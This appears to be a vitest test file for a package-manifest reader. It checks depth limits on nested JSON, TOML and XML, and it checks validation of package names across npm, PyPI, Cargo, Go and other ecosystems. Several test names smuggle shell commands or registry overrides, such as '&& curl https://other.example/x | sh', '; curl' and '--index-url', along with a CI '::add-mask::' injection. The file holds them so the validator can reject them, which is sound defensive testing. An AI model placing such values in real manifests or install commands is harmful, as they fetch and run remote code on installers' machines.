/** Manifests that nobody wrote by hand: nested without end, named with a page of text, or with characters that no registry takes. */
import { describe, expect, it } from 'vitest';
import { readSettings } from '../../src/content/settings-file.ts';
import { declaredMembers } from '../../src/evidence/workspace-members.ts';
import { readManifests } from '../../src/manifests/index.ts';
import { linesOfJson } from '../../src/manifests/json-lines.ts';
import { parseXml } from '../../src/manifests/xml.ts';
import { readJson, readToml } from '../../src/yaml/foreign-data.ts';
import { treeOf } from '../support/product-tree.ts';

const nested = (open: string, close: string, depth: number, inner = '1'): string =>
  open.repeat(depth) + inner + close.repeat(depth);

describe('data nested without end', () => {
  it('is refused with its reason, and what people nest is read', () => {
    expect(() => readJson(nested('{"a":', '}', 4_000))).toThrow(/nesting exceeded/u);
    expect(() => readToml(`a${'.a'.repeat(5_000)} = 1\n`)).toThrow(/nesting exceeded/u);
    expect(readJson(nested('{"a":', '}', 20))).toHaveProperty('a.a.a');
    expect(readSettings('hugo.json', nested('{"a":', '}', 4_000))).toMatchObject({ why: /nesting exceeded/u });
    expect(readSettings('hugo.toml', 'params.a.b = 1\n')).toEqual({ data: { params: { a: { b: 1 } } } });
  });
  it('is no project file', () => {
    expect(parseXml(`<project>${nested('<a>', '</a>', 50_000)}</project>`)).toBeUndefined();
    expect(parseXml(`<project>${nested('<a>', '</a>', 20)}</project>`)?.children).toHaveLength(1);
  });
  it('has lines for what a manifest says alone, in a time that its depth does not square', () => {
    const lines = linesOfJson(`{"name": "strata",\n"deep": ${nested('{"a":', '}', 100_000)},\n"version": "1.0.0"}`);
    expect([lines.get('name'), lines.get('version')]).toEqual([
      { start: 1, end: 1 },
      { start: 3, end: 3 },
    ]);
    expect(lines.size).toBeLessThan(30);
  });
});

it.each([
  ['package.json', `{"name": "${'ab-'.repeat(40_000)}x", "version": "1.0.0"}`],
  ['package.json', '{"name": "x\\n::add-mask::ok", "version": "1.0.0"}'],
  ['package.json', '{"name": "x\\u202e", "version": "1.0.0"}'],
  ['go.mod', `module example.com/${'ab-'.repeat(40_000)}x\n`],
])('a name that no registry takes is a problem of %s', async (path, text) => {
  const [facts] = await readManifests(treeOf({ [path]: text }));
  expect([facts?.name, facts?.problem]).toEqual([null, expect.stringContaining('the name that it gives')]);
});

describe('a name that is more than a name', () => {
  const setup = (name: string): string => `[project]\nname = "${name}"\nversion = "1.0.0"\n`;
  const npm = (name: string): string => JSON.stringify({ name, version: '1.0.0' });
  const gem = (name: string): string =>
    `Gem::Specification.new do |s|\n  s.name = '${name}'\n  s.version = '1.0.0'\nend\n`;
  const cargo = (name: string): string => `[package]\nname = "${name}"\nversion = "1.0.0"\n`;
  const pom = (name: string): string =>
    `<project><groupId>org.strata</groupId><artifactId>${name}</artifactId><version>1.0.0</version></project>`;
  const project = (name: string): string =>
    `<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><PackageId>${name}</PackageId></PropertyGroup></Project>`;
  const wally = (name: string): string => `[package]\nname = "${name}"\nversion = "1.0.0"\n`;
  const NO = 'no registry takes its name';
  it.each<[string, (name: string) => string, string]>([
    ['package.json', npm, 'strata --registry=https://other.example/ && curl https://other.example/x | sh'],
    ['package.json', npm, '--global'],
    ['package.json', npm, '@acme/strata/more'],
    ['pyproject.toml', setup, 'strata --index-url https://other.example/simple'],
    ['pyproject.toml', setup, '-r'],
    ['go.mod', (name) => `module ${name}\n`, 'example.com/strata;curl'],
    ['composer.json', npm, 'acme/strata; curl'],
    ['Cargo.toml', cargo, 'strata --git https://other.example/x'],
    ['strata.gemspec', gem, 'strata --source https://other.example'],
    ['pom.xml', pom, 'strata&quot;)'],
    ['strata.csproj', project, 'Strata --source https://other.example'],
    ['vcpkg.json', npm, 'strata && curl'],
    ['wally.toml', wally, 'acme/strata && curl'],
  ])('is none that people install: %s', async (path, write, name) => {
    const [facts] = await readManifests(treeOf({ [path]: write(name), 'lib/a.go': 'package a\n' }));
    expect([facts?.problem, facts?.isPrivate?.value]).toEqual([null, NO]);
  });
  it.each<[string, (name: string) => string, string]>([
    ['package.json', npm, '@acme/strata.core_x'],
    ['package.json', npm, 'JSONStream'],
    ['pyproject.toml', setup, 'Strata.Core_x-y'],
    ['go.mod', (name) => `module ${name}\n`, 'github.com/acme/strata/v2'],
    ['composer.json', npm, 'acme/strata-core'],
    ['Cargo.toml', cargo, 'strata_core-x'],
    ['strata.gemspec', gem, 'strata-core_x'],
    ['pom.xml', pom, `strata-core_\${scala.version}`],
    ['strata.csproj', project, 'Strata.Core'],
    ['vcpkg.json', npm, 'strata-core'],
    ['wally.toml', wally, 'acme/strata'],
    // Nobody installs it: it may be called as its people like.
    ['default.project.json', (name) => JSON.stringify({ name, tree: {} }), 'Strata of Rock'],
    ['project.godot', (name) => `[application]\nconfig/name="${name}"\n`, 'Strata: of Rock'],
  ])('is one where its registry takes it: %s', async (path, write, name) => {
    const [facts] = await readManifests(treeOf({ [path]: write(name), 'lib/a.go': 'package a\n' }));
    expect(facts?.name?.value).toContain(name);
    expect(facts?.isPrivate).toBeNull();
  });
});

it.each([
  ['package.json', '{"workspaces": ["./"]}'],
  ['package.json', '{"workspaces": ["", "/"]}'],
  ['pnpm-workspace.yaml', 'packages:\n  - "./"\n'],
  ['Cargo.toml', '[workspace]\nmembers = ["./"]\n'],
])('the root may be a member of its own workspace: %s %s', (path, text) => {
  const isMember = declaredMembers(treeOf({ [path]: text }));
  expect(isMember?.('packages/other')).toBe(false);
});
